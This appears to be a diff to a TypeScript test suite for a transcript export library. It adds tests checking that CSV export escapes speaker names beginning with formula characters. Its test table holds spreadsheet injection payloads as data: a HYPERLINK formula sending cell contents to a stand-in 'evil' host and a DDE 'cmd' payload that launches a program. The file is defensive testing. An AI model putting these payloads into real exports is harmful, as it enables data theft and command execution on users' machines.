@@ -77,6 +77,11 @@ const nasty = fc
         '-->',
         '\\',
         ' = ',
+        '=',
+        '+',
+        '-',
+        '@',
+        '＝',
         'é',
         'Дарья',
         '🎙️',
@@ -131,17 +136,33 @@ describe('exports of random turns read by other parsers', () => {
     );
   });
 
-  it('CSV by csv-parse, names to the last character', () => {
+  it('CSV by csv-parse, names to the last character but the apostrophes before formulas', () => {
+    const plain = (name: string) => name.replaceAll("'", '');
     fc.assert(
       fc.property(overlapping, (turns) => {
         const rows: Record<string, string>[] = parseCsv(toCsv(turns), { columns: true, record_delimiter: '\r\n' });
         const read = rows.map(({ start, end, duration, speaker }): Read => {
           expect(Number(duration)).toBeCloseTo(Number(end) - Number(start), 6);
-          return [Math.round(Number(start) * 1000), Math.round(Number(end) * 1000), speaker!];
+          // Where a semicolon separates cells, spreadsheets cut at it, and at line ends, inside of quotes too.
+          for (const cell of speaker!.split(/[;\t\r\n]/)) if (Number.isNaN(Number(speaker))) expect(cell).not.toMatch(/^[=+\-@＝＋－＠]/);
+          expect(speaker).not.toMatch(/^[\t\r]/);
+          return [Math.round(Number(start) * 1000), Math.round(Number(end) * 1000), plain(speaker!)];
         });
-        expect(read.sort(byTime)).toEqual(expected(turns, (name) => name));
+        expect(read.sort(byTime)).toEqual(expected(turns, plain));
       }),
     );
+  });
+
+  it.each([
+    ['=HYPERLINK("http://evil/?"&A1,"x")', `"'=HYPERLINK(""http://evil/?""&A1,""x"")"`],
+    ["@SUM(1+1)*cmd|'/C calc'!A0", "'@SUM(1+1)*cmd|'/C calc'!A0"],
+    ['+1-2', "'+1-2"],
+    ['\tx', `'\tx`],
+    ['Anna;=1+1', "Anna;'=1+1"],
+    ['-5', '-5'],
+    ['Anna - Ben', 'Anna - Ben'],
+  ])('CSV has the name %s as text', (name, cell) => {
+    expect(toCsv([{ startSeconds: 0, endSeconds: 1, speaker: name }])).toBe(`start,end,duration,speaker,confidence\r\n0.000,1.000,1.000,${cell},\r\n`);
   });
 
   it('Audacity labels by csv-parse, as fields between tabs', () => {
@@ -272,6 +293,7 @@ describe('the forms of the exports', () => {
     expect(toSrt([])).toBe('');
     expect(toWebVtt([])).toBe('WEBVTT\n');
     expect(toCsv([])).toBe('start,end,duration,speaker,confidence\r\n');
+    expect(toEaf([], { mediaFile: 'x.constructor', date: new Date(0) })).toContain('MIME_TYPE="audio/*"');
     expect(toEaf([], { mediaFile: 'x', date: new Date(0) })).not.toContain('<TIER');
   });
 });
